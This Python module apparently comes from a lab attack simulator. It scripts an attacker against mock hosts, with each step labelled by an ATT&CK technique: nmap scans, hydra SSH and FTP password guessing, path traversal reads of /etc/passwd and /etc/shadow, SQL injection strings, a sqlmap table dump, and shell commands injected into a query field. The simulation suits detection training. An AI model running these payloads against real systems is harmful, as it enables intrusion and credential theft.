"""The attack from outside: scan, web probing, injection, and guessing passwords over ssh."""

from __future__ import annotations

import time
from dataclasses import dataclass
from urllib.parse import quote

from .company import ATTACKER, MARTA, PLACES
from .host import Host
from .story import Story, Where

WEB, TRAP = PLACES["web01"].address, PLACES["trap01"].address


@dataclass(frozen=True)
class Tools:
    """The attacker's shell on the attacker's host."""

    kali: Host
    story: Story

    def run(self, step: str, technique: str, target: str, *argv: str, user: str = "", timeout: float = 240) -> str:
        with self.story.act("attack", step, Where(ATTACKER, target, user), " ".join(argv), technique):
            return self.kali.run(list(argv), check=False, timeout=timeout)

    def get(self, step: str, technique: str, path: str) -> str:
        time.sleep(0.6)
        return self.run(
            step, technique, "web01", "curl", "-s", "--max-time", "20", "--path-as-is", f"http://{WEB}{path}"
        )


def scan(tools: Tools) -> None:
    tools.run("port scan", "T1046", "web01, trap01", "nmap", "-sS", "-Pn", "-n", "-T4", "--top-ports", "300", WEB, TRAP)
    tools.run(
        "service scan",
        "T1046",
        "web01, trap01",
        "nmap",
        "-sV",
        "--version-light",
        "-Pn",
        "-n",
        "-T4",
        "-p",
        "21,22,23,80,3306,6379",
        WEB,
        TRAP,
    )
    tools.run(
        "honeypot probing",
        "T1110.001",
        "trap01",
        "hydra",
        "-I",
        "-l",
        "admin",
        "-P",
        "/root/few.txt",
        "-t",
        "2",
        f"ftp://{TRAP}",
    )
    for password in ("admin", "nas"):
        tools.run(
            "honeypot probing",
            "T1110.001",
            "trap01",
            "curl",
            "-s",
            "-o",
            "/dev/null",
            "-d",
            f"username=admin&password={password}",
            f"http://{TRAP}/index.html",
        )


def probe_web(tools: Tools) -> None:
    tools.run(
        "path enumeration",
        "T1595.003",
        "web01",
        "gobuster",
        "dir",
        "-q",
        "-t",
        "4",
        "-u",
        f"http://{WEB}",
        "-w",
        "/root/paths.txt",
    )
    for name in (
        "../../../../etc/passwd",
        "..%2f..%2f..%2f..%2fetc%2fpasswd",
        "../../../../etc/shadow",
        "../shop/page.php",
        "../../../../../proc/self/environ",
    ):
        tools.get("path traversal", "T1190", f"/download.php?file={name}")
    for number in (
        "1'",
        "1%20AND%201=1",
        "1%20AND%201=2",
        "1%20ORDER%20BY%203--",
        "0%20UNION%20SELECT%201,2,sqlite_version()--",
    ):
        tools.get("SQL injection by hand", "T1190", f"/book.php?id={number}")
    tools.run(
        "SQL injection by sqlmap",
        "T1190",
        "web01",
        "sqlmap",
        "-u",
        f"http://{WEB}/book.php?id=2",
        "--batch",
        "--technique=BU",
        "--dbms=sqlite",
        "--dump",
        "-T",
        "staff",
        "--flush-session",
        "--disable-coloring",
    )


def inject_commands(tools: Tools) -> None:
    for command in ("id", "uname -a", "cat /etc/passwd", "ls -la /srv/www", "which curl wget nc python3"):
        tools.get("command injection", "T1190", f"/stock.php?depot={quote('127.0.0.1;' + command)}")


def guess_passwords(tools: Tools) -> bool:
    """Tries user names with one password, then one user with a list; True when the list held the password."""
    tools.run(
        "user enumeration",
        "T1110.003",
        "web01",
        "hydra",
        "-I",
        "-L",
        "/root/users.txt",
        "-p",
        "Harbour2026",
        "-t",
        "4",
        f"ssh://{WEB}",
    )
    told = tools.run(
        "password guessing",
        "T1110.001",
        "web01",
        "hydra",
        "-I",
        "-l",
        MARTA.login,
        "-P",
        "/root/passwords.txt",
        "-t",
        "4",
        "-f",
        f"ssh://{WEB}",
        user=MARTA.login,
    )
    return "1 valid password found" in told
